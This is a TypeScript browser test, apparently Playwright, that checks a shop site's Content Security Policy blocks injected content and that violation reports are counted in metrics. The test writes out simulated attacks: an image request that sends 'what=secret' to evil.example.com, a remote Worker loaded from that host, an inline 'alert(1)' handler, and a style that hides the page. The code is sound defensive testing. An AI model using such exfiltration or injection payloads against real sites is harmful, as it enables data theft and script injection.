import { freePort } from '../hardening/support/figures.ts';
import { expect, test } from './fixtures.ts';
import { offerAttempt, policyErrors } from './policy-attempts.ts';

/** The policy violations that the site has counted, by directive. */
async function counted(port: number): Promise<Record<string, number>> {
  const text = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
  const lines = text.matchAll(/^shop_csp_reports_total\{directive="([^"]+)"\} (\d+)$/gm);
  return Object.fromEntries([...lines].map(([, directive = '', count]) => [directive, Number(count)]));
}

const metricsPort = await freePort();
test.use({
  shopOptions: { environment: { METRICS_PORT: String(metricsPort) } },
  expectedErrors: [policyErrors],
});

test('What a page tries against the policy is not done, and the browser reports it to the site, which counts it', async ({
  page,
  shop,
}) => {
  await offerAttempt(page);
  await page.goto('/shop');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await counted(metricsPort)).toEqual({});
  const outcome = await page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    const picture = document.createElement('img');
    picture.src = 'http://evil.example.com/x.png?what=secret';
    document.head.append(style, picture);
    return {
      shown: getComputedStyle(document.body).display,
      handler: attempt(() => document.body.setAttribute('onclick', 'alert(1)')),
      worker: attempt(() => new Worker('https://evil.example.com/worker.js')),
    };
  });
  expect(outcome).toEqual({
    shown: expect.not.stringContaining('none'),
    handler: 'TypeError',
    worker: 'TypeError',
  });
  await expect
    .poll(() => counted(metricsPort))
    .toEqual({ 'style-src-elem': 1, 'img-src': 1, 'require-trusted-types-for': 2 });
  expect(shop.logText()).toContain('"page":"/shop","blocked":"http://evil.example.com"');
  expect(shop.logText()).not.toContain('what=secret');
});
